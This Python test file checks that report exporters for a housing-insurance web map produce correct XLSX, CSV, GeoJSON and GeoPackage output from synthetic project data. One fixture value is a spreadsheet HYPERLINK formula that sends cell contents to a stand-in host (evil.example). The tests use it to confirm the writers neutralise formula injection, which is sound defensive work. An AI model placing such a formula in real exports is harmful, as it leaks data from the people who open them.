"""The report's non-PDF files (XLSX, CSV, GeoJSON, GeoPackage) from a report dict built here.

No database: the dict follows the contract of ``webmap.reports``, so these tests pin the
writers alone.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from openpyxl import load_workbook
from shapely.geometry import shape

from webmap.reports.tabular import render_csv, render_geojson, render_gpkg
from webmap.reports.workbook import render_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
N_PROJECTS = 50
INSURERS = ["中国人保财险", "平安财险", "太平洋财险"]


def _project(i: int) -> dict:
    return {
        "id": 1000 + i,
        "name": FORMULA if i == 7 else f"五华区安居小区{i}号地块住宅项目",
        "insurer": INSURERS[i % 3],
        "units": 100 + i * 7,
        "premium": round(12.5 + i * 3.217, 2) + (1000 if i == 3 else 0),
        "issued_on": f"2024-{1 + i % 12:02d}-{1 + i % 28:02d}",
        "lon": 102.70 + (i % 10) * 0.002,
        "lat": 25.04 + (i // 10) * 0.004,
    }


PROJECTS = [_project(i) for i in range(N_PROJECTS)]
COLUMNS = [
    {"id": "id", "title": "项目编号", "unit": "", "decimals": None},
    {"id": "name", "title": "项目名称", "unit": "", "decimals": None},
    {"id": "insurer", "title": "首席承保公司", "unit": "", "decimals": None},
    {"id": "units", "title": "户数", "unit": "户", "decimals": 0},
    {"id": "premium", "title": "保费", "unit": "万元", "decimals": 2},
    {"id": "issued_on", "title": "签单日期", "unit": "", "decimals": None},
]
HEADINGS = ["项目编号", "项目名称", "首席承保公司", "户数（户）", "保费（万元）", "签单日期"]
INDICATORS = [
    {"id": "premium", "title": "总保费", "unit": "万元", "decimals": 2, "group": "承保",
     "value": 4321.56, "city": 98765.43},
    {"id": "projects", "title": "承保项目数", "unit": "个", "decimals": 0, "group": "承保",
     "value": 50, "city": 420},
    {"id": "loss_ratio", "title": "赔付率", "unit": "%", "decimals": 1, "group": "理赔",
     "value": 12.5, "city": None},
]


def make_report(with_map: bool = True) -> dict:
    rows = [{k: v for k, v in p.items() if k not in ("lon", "lat")} for p in PROJECTS]
    boundary = {"type": "Polygon", "coordinates": [[
        [102.68, 25.03], [102.68, 25.07], [102.72, 25.07], [102.72, 25.03], [102.68, 25.03]]]}
    section = {
        "id": "underwriting", "title": "承保统计",
        "indicators": [{k: v for k, v in i.items() if k != "city"} for i in INDICATORS[:2]],
        "charts": [
            {"id": "premium_by_insurer", "title": "各保险公司保费", "kind": "bar", "unit": "万元",
             "categories": INSURERS,
             "series": [{"name": "保费", "values": [2000.5, 1500.25, 820.81]}]},
            {"id": "projects_by_stage", "title": "项目阶段", "kind": "pie", "unit": "个",
             "categories": ["在建", "竣工"], "series": [{"name": "项目数", "values": [30, 20]}]},
        ],
        "tables": [],
    }
    return {
        "kind": "district", "title": "五华区住宅工程质量潜在缺陷保险报告",
        "subtitle": "昆明市 · 2024 年", "city_name": "昆明市", "made_at": "2026-06-30 10:15",
        "data_version": "v42", "district": {"code": "530102", "name": "五华区"},
        "filters": [["统计期间", "2024-01-01 至 2024-12-31"], ["保险公司", "全部"]],
        "scope_note": "", "indicators": INDICATORS, "sections": [section],
        "tables": [{"id": "projects", "title": "项目清单", "columns": COLUMNS, "rows": rows}],
        "map": {"boundary": boundary, "projects": PROJECTS} if with_map else None,
    }


@pytest.fixture(scope="module")
def workbook():
    return load_workbook(io.BytesIO(render_xlsx(make_report())))


def test_xlsx_has_overview_section_and_table_sheets(workbook):
    assert workbook.sheetnames == ["概览", "承保统计", "项目清单"]


def _rows_by_first_cell(sheet) -> dict:
    return {row[0].value: row for row in sheet.iter_rows() if row[0].value is not None}


def test_xlsx_overview_holds_indicators_as_numbers(workbook):
    rows = _rows_by_first_cell(workbook["概览"])
    assert workbook["概览"]["A1"].value == make_report()["title"]
    for indicator in INDICATORS:
        value, city = rows[indicator["title"]][1], rows[indicator["title"]][2]
        assert value.data_type == "n" and value.value == indicator["value"]
        assert city.value == indicator["city"]
    assert rows["总保费"][1].number_format == "#,##0.00"
    assert rows["统计期间"][1].value == "2024-01-01 至 2024-12-31"


def test_xlsx_section_sheet_holds_chart_data_and_charts(workbook):
    sheet = workbook["承保统计"]
    rows = _rows_by_first_cell(sheet)
    assert [rows[name][1].value for name in INSURERS] == [2000.5, 1500.25, 820.81]
    assert rows["在建"][1].value == 30
    assert len(sheet._charts) == 2


def test_xlsx_table_sheet_has_frozen_header_filter_and_typed_cells(workbook):
    sheet = workbook["项目清单"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    assert [c.value for c in sheet[1]] == HEADINGS
    assert sheet.auto_filter.ref == f"A1:F{N_PROJECTS + 1}"
    project = PROJECTS[3]
    assert [c.value for c in sheet[5]] == [
        project["id"], project["name"], project["insurer"], project["units"],
        project["premium"], dt.datetime.fromisoformat(project["issued_on"])]
    assert sheet["E5"].number_format == "#,##0.00"
    assert sheet.column_dimensions["B"].width >= 30


def test_xlsx_stores_a_formula_like_name_as_text(workbook):
    cell = workbook["项目清单"]["B9"]
    assert cell.value == FORMULA
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_xlsx_reports_progress():
    steps = []
    render_xlsx(make_report(), progress=lambda step, fraction: steps.append((step, fraction)))
    fractions = [f for _, f in steps]
    assert steps[0] == ("概览", 0.0) and steps[-1] == ("完成", 1.0)
    assert fractions == sorted(fractions)


def test_xlsx_of_a_periodic_report_without_map_or_city_figures():
    report = make_report(with_map=False)
    report.update(kind="periodic", district=None,
                  indicators=[{**i, "city": None} for i in INDICATORS])
    sheet = load_workbook(io.BytesIO(render_xlsx(report)))["概览"]
    header = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "指标")
    assert "全市" not in header and header[1] == "数值"


def _csv_rows() -> list[list[str]]:
    data = render_csv(make_report())
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_headers_with_units_and_plain_numbers():
    rows = _csv_rows()
    assert rows[0] == HEADINGS
    assert len(rows) == N_PROJECTS + 1
    project = PROJECTS[3]
    assert rows[4] == [str(project["id"]), project["name"], project["insurer"],
                       str(project["units"]), f"{project['premium']:.2f}", project["issued_on"]]
    assert "," not in rows[4][4] and float(rows[4][4]) > 1000


def test_csv_guards_a_formula_like_name():
    assert _csv_rows()[8][1] == "'" + FORMULA


def test_geojson_has_the_district_and_its_projects():
    data = render_geojson(make_report())
    assert "五华区".encode() in data  # UTF-8 text, not \u escapes
    collection = json.loads(data.decode("utf-8"))
    assert collection["type"] == "FeatureCollection"
    assert collection["metadata"]["made_at"] == "2026-06-30 10:15"
    district, *projects = collection["features"]
    assert district["properties"] == {"kind": "district", "code": "530102", "name": "五华区"}
    # RFC 7946 §3.1.6: exterior rings counter-clockwise (the input ring was clockwise)
    assert shape(district["geometry"]).exterior.is_ccw
    assert len(projects) == N_PROJECTS
    for feature, project in zip(projects, PROJECTS, strict=True):
        assert feature["geometry"]["coordinates"] == pytest.approx(
            [project["lon"], project["lat"]], abs=1e-6)
        assert feature["properties"]["kind"] == "project"
        assert feature["properties"]["premium"] == project["premium"]
        assert "lon" not in feature["properties"]


def test_gpkg_opens_with_geopandas(tmp_path):
    path = tmp_path / "report.gpkg"
    path.write_bytes(render_gpkg(make_report()))
    assert sorted(name for name, _ in pyogrio.list_layers(path)) == ["district", "projects"]
    district = gpd.read_file(path, layer="district", engine="pyogrio")
    projects = gpd.read_file(path, layer="projects", engine="pyogrio")
    assert district.crs.to_epsg() == 4326 and projects.crs.to_epsg() == 4326
    assert len(district) == 1 and district.loc[0, "code"] == "530102"
    assert len(projects) == N_PROJECTS
    assert pd.api.types.is_integer_dtype(projects["units"])
    assert pd.api.types.is_float_dtype(projects["premium"])
    assert projects.loc[7, "name"] == FORMULA
    assert projects.geometry.x.tolist() == pytest.approx([p["lon"] for p in PROJECTS])


@pytest.mark.parametrize("render", [render_geojson, render_gpkg])
def test_a_report_without_map_is_refused(render):
    with pytest.raises(ValueError, match="没有地图.*no map"):
        render(make_report(with_map=False))
